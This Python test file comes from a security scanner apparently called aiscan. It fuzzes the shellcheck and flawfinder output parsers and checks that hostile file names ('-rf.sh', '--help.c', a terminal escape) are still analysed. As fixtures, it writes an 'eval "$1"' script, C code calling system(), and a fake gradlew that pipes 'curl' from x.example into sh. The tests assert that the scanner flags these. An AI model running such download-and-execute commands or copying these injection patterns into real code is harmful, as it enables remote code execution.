"""Shell and C analysis against hostile input: the parsers of shellcheck's and flawfinder's output
fuzzed (a result or one ToolError, never another exception), and trees whose file names or
contents try to slip past the analyzers."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from aiscan.analyzers.base import ScanContext
from aiscan.analyzers.flawfinder import FlawfinderAnalyzer, parse_flawfinder
from aiscan.analyzers.shellcheck import ShellcheckAnalyzer, parse_shellcheck
from aiscan.config import ScanConfig
from aiscan.errors import ToolError
from aiscan.inventory import build_inventory
from aiscan.models import RunStatus
from aiscan.sast.check_map import load_check_map
from aiscan.sast.shell_patterns import shell_pattern_hits
from tests.adversarial.test_sast_parsers_fuzz import json_values, mutated
from tests.conftest import FIXTURES

RECORDED = FIXTURES / "recorded"
SHELLCHECK_DOCS = [json.loads((RECORDED / "shellcheck.json").read_text())]
FLAWFINDER_CSV = (RECORDED / "flawfinder.csv").read_text()
FUZZ = settings(max_examples=300, deadline=None, derandomize=True)
NAMES = {"0.sh": "a.sh", "1.sh": "b.sh", "2.sh": "c.sh", "0.c": "a.c"}


def _outcome(parse: Any, data: Any, mapping: Any) -> None:
    try:
        parse(data, mapping, NAMES, lambda p, s, e: "")
    except ToolError as exc:
        assert "\n" not in exc.message


@FUZZ
@given(mutated(SHELLCHECK_DOCS) | json_values)
def test_shellcheck_parser_gives_a_result_or_one_tool_error(data: Any) -> None:
    _outcome(parse_shellcheck, data, load_check_map("shellcheck"))


@FUZZ
@given(st.data())
def test_flawfinder_parser_gives_a_result_or_one_tool_error(data: st.DataObject) -> None:
    lines = FLAWFINDER_CSV.splitlines()
    for _ in range(data.draw(st.integers(1, 3))):
        i = data.draw(st.integers(0, len(lines) - 1))
        cells = lines[i].split(",")
        j = data.draw(st.integers(0, len(cells) - 1))
        cells[j] = data.draw(st.text(max_size=12))
        lines[i] = ",".join(cells)
    _outcome(parse_flawfinder, "\n".join(lines), load_check_map("flawfinder"))


@FUZZ
@given(st.text(max_size=300))
def test_shell_line_checks_take_any_text(text: str) -> None:
    for hit in shell_pattern_hits(text):
        assert hit.line >= 1 and hit.end_line >= hit.line


def test_hostile_file_names_are_analysed(tmp_path: Path) -> None:
    """Names that a tool could read as an option, standard input or a terminal escape."""
    names = ["-rf.sh", "--help.c", "-", "a\x1b[2Jb.c", "sp ace.sh"]
    for name in names:
        text = "int f(char *s) { return system(s); }\n" if name.endswith(".c") or name == "-" else ""
        (tmp_path / name).write_text(text or '#!/bin/sh\neval "$1"\n')
    inventory = build_inventory(tmp_path)
    ctx = ScanContext(ScanConfig(root=tmp_path), inventory)
    shell = ShellcheckAnalyzer().run(ctx)
    c = FlawfinderAnalyzer().run(ctx)
    assert shell.run.status is RunStatus.OK and c.run.status is RunStatus.OK, (shell.run, c.run)
    assert {f.location.path for f in shell.findings} >= {"-rf.sh", "sp ace.sh"}
    assert {f.location.path for f in c.findings} >= {"--help.c", "a\x1b[2Jb.c"}


def test_a_fake_wrapper_is_analysed(tmp_path: Path) -> None:
    """A script named gradlew without the wrapper's content is code of the tree."""
    (tmp_path / "gradlew").write_text(
        "#!/bin/sh\n# Gradle start up script for UN*X\ncurl -fsSL https://x.example | sh\n"
    )
    ctx = ScanContext(ScanConfig(root=tmp_path), build_inventory(tmp_path))
    assert ctx.inventory.build_tooling == ()
    outcome = ShellcheckAnalyzer().run(ctx)
    assert "aiscan-shell-download-executed" in {f.rule_id for f in outcome.findings}
